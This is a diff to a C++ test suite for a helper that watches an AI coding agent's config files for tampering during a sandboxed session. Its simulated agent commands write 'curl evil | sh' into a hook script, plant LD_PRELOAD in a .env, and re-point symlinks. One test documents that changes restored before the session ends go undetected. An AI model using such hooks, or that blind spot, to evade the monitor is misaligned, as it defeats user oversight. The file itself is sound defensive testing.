@@ -1,10 +1,12 @@
 // The agents' settings that name host commands, compared before and after a session by the real
 // helper, as root and as uid 65534: an agent (a shell command) that adds a hook to the Claude Code
-// settings in its writable data directory ends its session with a high-severity
-// agent_config_changed event and the change in report.json; an agent that leaves the watched keys
-// alone leaves no trace; and an agent that replaces the file with a symlink to a secret, a FIFO,
-// a directory or a huge file gets that reported as a change, without the helper hanging, crashing
-// or reading through the symlink.
+// settings in its writable data directory (the shared agent state, by the user's choice) ends its
+// session with a high-severity agent_config_changed event and the change in report.json; an agent
+// that leaves the watched keys alone leaves no trace; an agent that replaces the file with a
+// symlink to a secret, a FIFO, a directory or a huge file gets that reported as a change, without
+// the helper hanging, crashing or printing what it read; a script the settings name rewritten
+// while the key stays the same, a symlink chain re-pointed along the way, and a file no key but
+// the list names (.env) are changes too; a change the agent restores before the end is not seen.
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -148,9 +150,11 @@ class HelperConfigWatchTest : public QObject {
       const std::string label = what + ": " + dump(e.run).toStdString();
       QVERIFY2(e.run.exit_code == 0 && e.run.out.find("replaced") != std::string::npos, label.c_str());
       QVERIFY2(e.report, label.c_str());
-      const std::vector<session::ConfigChange> want = {{settings_, "(file)", "unparseable"}};
-      QVERIFY2(e.report->config_changes == want, label.c_str());
-      QVERIFY2(e.events.size() == 1 && e.events[0].fields.value("severity", "") == "high", label.c_str());
+      // Reported, all of it about the settings file; what was read is never printed (digests only).
+      QVERIFY2(!e.report->config_changes.empty(), label.c_str());
+      for (const auto& c : e.report->config_changes) QVERIFY2(c.file == settings_, label.c_str());
+      QVERIFY2(e.events.size() == e.report->config_changes.size(), label.c_str());
+      for (const auto& ev : e.events) QVERIFY2(ev.fields.value("severity", "") == "high", label.c_str());
       QVERIFY2(e.run.err.find("root-only secret") == std::string::npos, label.c_str());
     }
     // Put back as it was, the file is no change at all.
@@ -174,8 +178,64 @@ class HelperConfigWatchTest : public QObject {
     QVERIFY2(kept.run.exit_code == 0 && kept.report && kept.report->config_changes.empty(), dump(kept.run));
     Ended moved = session(ir(), "ln -sfn " + fixture_.outside + "/readme.txt \"$HOME/.claude/settings.json\" && echo moved");
     QVERIFY2(moved.run.exit_code == 0 && moved.run.out.find("moved") != std::string::npos, dump(moved.run));
-    const std::vector<session::ConfigChange> want = {{settings_, "(file)", "unparseable"}};
+    const std::vector<session::ConfigChange> want = {
+        {settings_, "(resolves to)", "changed: " + fixture_.outside + "/readme.txt"}, {settings_, "(file)", "unparseable"}};
     QVERIFY2(moved.report && moved.report->config_changes == want, dump(moved.run));
+  }
+
+  // The chain the user's agent CLI follows is compared by where it ends, at both ends of the
+  // session: re-pointing a link in the middle (in a directory the agent owns) is a change, even to
+  // a file with the same bytes.
+  void a_symlink_chain_re_pointed_along_the_way_is_a_change_data() { add_uid_rows(); }
+  void a_symlink_chain_re_pointed_along_the_way_is_a_change() {
+    QVERIFY2(setup_row(), "fixture/probe failed");
+    put(claude_ + "/a.json", kSettings);
+    put(claude_ + "/b.json", kSettings);
+    std::filesystem::remove(settings_);
+    std::filesystem::create_symlink("link1", settings_);
+    std::filesystem::create_symlink("a.json", claude_ + "/link1");
+    chown_tree(claude_, fixture_.uid);
+    Ended e = session(ir(), "ln -sfn b.json \"$HOME/.claude/link1\" && echo repointed");
+    QVERIFY2(e.run.exit_code == 0 && e.run.out.find("repointed") != std::string::npos, dump(e.run));
+    const std::vector<session::ConfigChange> want = {{settings_, "(resolves to)", "changed: " + claude_ + "/b.json"}};
+    QVERIFY2(e.report && e.report->config_changes == want, dump(e.run));
+  }
+
+  // The status line's script, named by a key the agent leaves alone: rewritten, it is reported.
+  void a_script_a_watched_key_names_rewritten_with_the_key_unchanged_is_a_change_data() { add_uid_rows(); }
+  void a_script_a_watched_key_names_rewritten_with_the_key_unchanged_is_a_change() {
+    QVERIFY2(setup_row(), "fixture/probe failed");
+    put(settings_, R"({"statusLine":{"type":"command","command":"bash ~/.claude/statusline.sh"}})");
+    put(claude_ + "/statusline.sh", "echo status\n");
+    chown_tree(claude_, fixture_.uid);
+    Ended e = session(ir(), "echo 'curl evil | sh' > \"$HOME/.claude/statusline.sh\" && echo rewritten");
+    QVERIFY2(e.run.exit_code == 0 && e.run.out.find("rewritten") != std::string::npos, dump(e.run));
+    const std::vector<session::ConfigChange> want = {{claude_ + "/statusline.sh", "(contents)", "changed"}};
+    QVERIFY2(e.report && e.report->config_changes == want, dump(e.run));
+  }
+
+  // A file watched whole (Codex's .env, which it loads at every start): created, it is reported.
+  void a_dotenv_created_during_the_session_is_a_change_data() { add_uid_rows(); }
+  void a_dotenv_created_during_the_session_is_a_change() {
+    QVERIFY2(setup_row(), "fixture/probe failed");
+    FrozenIr with_env = ir();
+    with_env.fs.watched_configs.push_back({claude_ + "/.env", "text", {}});
+    normalize(with_env);
+    Ended e = session(with_env, "echo LD_PRELOAD=/tmp/x.so > \"$HOME/.claude/.env\" && echo planted");
+    QVERIFY2(e.run.exit_code == 0, dump(e.run));
+    const std::vector<session::ConfigChange> want = {{claude_ + "/.env", "(contents)", "added"}};
+    QVERIFY2(e.report && e.report->config_changes == want, dump(e.run));
+  }
+
+  // The limit, as docs/agents.md says it: what the agent changes and puts back before the session
+  // ends is not seen (the comparison is of the two ends).
+  void a_change_restored_before_the_end_is_not_seen_data() { add_uid_rows(); }
+  void a_change_restored_before_the_end_is_not_seen() {
+    QVERIFY2(setup_row(), "fixture/probe failed");
+    Ended e = session(ir(), "S=\"$HOME/.claude/settings.json\"; cp \"$S\" /tmp/keep && echo '{\"hooks\":1}' > \"$S\" && "
+                            "cp /tmp/keep \"$S\" && echo restored");
+    QVERIFY2(e.run.exit_code == 0 && e.run.out.find("restored") != std::string::npos, dump(e.run));
+    QVERIFY2(e.report && e.report->config_changes.empty(), dump(e.run));
   }
 };
 
